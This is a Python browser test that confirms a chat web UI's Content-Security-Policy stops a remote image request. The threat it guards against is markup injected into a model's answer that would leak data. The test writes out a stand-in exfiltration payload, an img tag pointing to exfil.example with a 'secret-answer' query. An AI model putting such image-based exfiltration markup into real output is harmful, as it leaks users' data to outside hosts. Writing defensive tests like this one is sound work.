"""The web UI's Content-Security-Policy in a real browser: the page works, and a remote image is never fetched.

An answer that made it past the escaping (or any other injected markup) could still carry
``<img src="https://elsewhere/?q=…">``; the policy must stop the browser from sending that request.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from api_server import RunningServer

from tests.shared_servers import PLAIN, SharedServers

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"


@pytest.fixture(scope="module")
def server(shared_servers: SharedServers) -> RunningServer:
    return shared_servers.get(PLAIN)  # the default settings, shared with test_api_chat


def test_ui_loads_under_its_policy_and_remote_images_are_blocked(server: RunningServer, tmp_path: Path) -> None:
    """Before: no policy, so an image in an answer was fetched from wherever it pointed."""
    if not Path(CHROMIUM).exists():
        pytest.skip(f"needs Chromium at {CHROMIUM} (make system-deps)")
    from playwright.sync_api import sync_playwright

    requested: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        try:
            context = browser.new_context()

            def record(route) -> None:  # type: ignore[no-untyped-def]
                requested.append(route.request.url)
                if "127.0.0.1" in route.request.url:
                    route.continue_()
                else:
                    route.abort()

            context.route("**/*", record)
            page = context.new_page()
            violations: list[str] = []
            page.on("console", lambda message: violations.append(message.text)
                    if "Content Security Policy" in message.text else None)
            page.goto(f"{server.base_url}/ui/")
            page.locator("#chatbot").wait_for(timeout=60_000)  # the app rendered under the policy
            page.evaluate("""() => new Promise(resolve => {
                document.addEventListener('securitypolicyviolation', e => resolve(e.blockedURI), {once: true});
                const img = document.createElement('img');
                img.src = 'http://exfil.example/leak.png?q=secret-answer';
                document.querySelector('#chatbot').appendChild(img);
                setTimeout(() => resolve('no violation'), 5000);
            })""")
            page.wait_for_timeout(500)
        finally:
            browser.close()
    assert not any("exfil.example" in url for url in requested)  # blocked before any request left the page
    assert any("exfil.example" in text for text in violations), violations
    assert not [text for text in violations if "exfil.example" not in text]  # the UI itself needs nothing blocked
